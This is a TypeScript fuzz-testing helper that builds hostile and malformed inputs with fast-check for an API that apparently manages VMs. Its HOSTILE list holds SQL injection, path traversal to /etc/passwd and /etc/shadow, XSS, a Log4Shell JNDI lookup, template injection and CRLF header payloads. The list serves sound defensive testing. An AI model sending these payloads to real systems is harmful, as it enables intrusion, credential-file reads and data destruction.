import fc from 'fast-check';

/** Values an attacker or a broken client sends: SQL, paths, markup, format strings, odd numbers, odd text. */
export const HOSTILE = [
  "' OR 1=1 --",
  '1; DROP TABLE vms; --',
  '" OR ""="',
  "') UNION SELECT secretKey FROM users --",
  "admin'--",
  '%27%20OR%201%3D1',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '..%2f..%2f..%2fetc%2fpasswd',
  '/dev/zero',
  'file:///etc/shadow',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '${jndi:ldap://x.invalid/a}',
  '{{7*7}}',
  '%s%s%s%n',
  '\\u0000',
  '\u0000',
  '\u0007',
  '\r\nSet-Cookie: x=1',
  '💥',
  '\u202etxt.exe',
  'ﬀ',
  'İ',
  'ß',
  '\uFEFF',
  '\uD800',
  'Ω≈ç√∫˜µ≤≥÷',
  '表ポあA鷗ŒéＢ逍Üßªąñ丂㐀𠀀',
  '',
  ' ',
  '\t',
  'null',
  'undefined',
  'NaN',
  'Infinity',
  '-Infinity',
  '-0',
  '1e309',
  '0x1F',
  '0b101',
  '1_000',
  '99999999999999999999999',
  '-9223372036854775809',
  '9223372036854775808',
  '2147483648',
  '-1',
  '0',
  '1.5',
  'true',
  'TRUE',
  'yes',
  '[]',
  '{}',
  '[object Object]',
  '__proto__',
  'constructor',
  'prototype',
  'hasOwnProperty',
  '*',
  '?',
  '%',
  '&',
  '=',
  ';',
  ',',
  ',,,',
  '[0]',
  'a[0].b',
  'a]b[',
];

/** Base64 of 1 KiB to 192 KiB: big user data, big key material, big anything. */
export const hugeBase64 = fc
  .integer({ min: 1, max: 192 })
  .map((k) => Buffer.alloc(k * 1024, k % 256).toString('base64'));

/** Any of: hostile constants, random text of every unicode plane, numbers as text, uuids, huge base64, or something known to exist. */
export function fuzzString(known: readonly string[] = []): fc.Arbitrary<string> {
  return fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(...HOSTILE) },
    { weight: 3, arbitrary: fc.string({ maxLength: 40 }) },
    { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
    { weight: 1, arbitrary: fc.string({ minLength: 300, maxLength: 5000 }) },
    { weight: 2, arbitrary: fc.oneof(fc.integer(), fc.double(), fc.bigInt()).map(String) },
    { weight: 2, arbitrary: fc.uuid() },
    { weight: 1, arbitrary: hugeBase64 },
    { weight: known.length ? 4 : 0, arbitrary: known.length ? fc.constantFrom(...known) : fc.constant('') },
  );
}

/** A JSON value of any shape (for bodies that expect something else). */
export const anyJson = fc.jsonValue({ maxDepth: 3 });

/**
 * Percent-escapes no decoder accepts, to be sent as they are (not encoded again): a truncated
 * three-byte sequence, a lone `%`, non-hex digits, overlong and surrogate UTF-8.
 */
export const BAD_ESCAPES = [
  '%E0%A4%A',
  '%',
  '%zz',
  '%%',
  '%E0%A4',
  '%C0%AF',
  '%ED%A0%80',
  '%FF%FE',
  'a%2',
  '%u0041',
  '%%%',
];

/** An id far past any column's size (70,000 characters), in the shapes ids take. */
export const LONG_IDS = [
  'a'.repeat(70_000),
  `${'0'.repeat(35_000)}-${'f'.repeat(34_999)}`,
  'i-'.padEnd(70_000, '0'),
  '9'.repeat(70_000),
];

/** JSON nested `depth` deep: arrays, objects and both mixed; enough to overflow a recursive walker. */
export function deepJson(depth: number): string[] {
  return [
    '['.repeat(depth) + ']'.repeat(depth),
    '{"a":'.repeat(depth) + '1' + '}'.repeat(depth),
    '[{"a":'.repeat(depth) + '1' + '}]'.repeat(depth),
    '['.repeat(depth),
  ];
}

/** A Compute Engine filter with `depth` parentheses around a term, balanced and not. */
export function deepFilters(depth: number): string[] {
  return [
    '('.repeat(depth) + 'name = "x"' + ')'.repeat(depth),
    '('.repeat(depth),
    ')'.repeat(depth),
    '(name = "x") AND '.repeat(depth) + '(name = "y")',
    'NOT '.repeat(depth) + 'name = x',
  ];
}
